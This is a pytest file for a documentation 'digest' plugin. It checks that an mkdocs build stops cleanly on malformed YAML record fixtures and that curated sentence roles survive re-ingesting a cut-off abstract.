@pytest.mark.parametrize(
    "name",
    [
        "unknown-topic.yaml",
        "alias-bomb.yaml",
        "taxonomy-broken.yaml",
        "record-nested-100000.yaml",
        "hardware-broken.yaml",
    ],
)
def test_mkdocs_build_stops_with_the_line_check_prints(tmp_path, name):
    """The digest plugin, run by a real `mkdocs build`: check's line, exit 1, no traceback."""
    case = next(case for case in CASES if case.file == name)
    store = small_store(tmp_path)
    path = place(case, store, tmp_path)
    before = tree_hash(store)
    result = mkdocs_build(REPO / "mkdocs.yml", tmp_path / "site", {"DIGEST_DATA": str(store)})
    assert result.returncode == 1 and "Traceback" not in result.stderr
    lines = result.stderr.splitlines()
    assert f"ERROR   -  {case.message.format(file=path)} (`digest check` lists every problem)" in lines, lines
    assert result.stdout.strip() == "Aborted with a BuildError!"
    assert tree_hash(store) == before


def test_a_cut_off_abstract_with_curated_sentence_roles_stays_and_says_why(store, capsys):
    assert ingest_fixture(store, "cut-off-dump.txt", capsys=capsys)[0] == 0
    path = record_path(store, "beta")
    record = yaml.safe_load(path.read_text())
    roles = ["own"] * len(split_sentences(record["abstract"]))
    path.write_text(
        path.read_text().replace("overrides: {}", "overrides:\n  sentence_roles: [" + ", ".join(roles) + "]"),
        encoding="utf-8",
    )
    assert check_store(with_rules(store)) == []
    code, out = ingest_fixture(store, "cut-off-dump-complete.txt", capsys=capsys)
    assert code == 0 and "beta: a longer abstract is listed here, but the record's sentence_roles are curated" in out
    kept = yaml.safe_load(path.read_text())
    assert kept["abstract"] == record["abstract"] and kept["abstract_truncated"] is True
    assert kept["overrides"]["sentence_roles"] == roles and check_store(with_rules(store)) == []
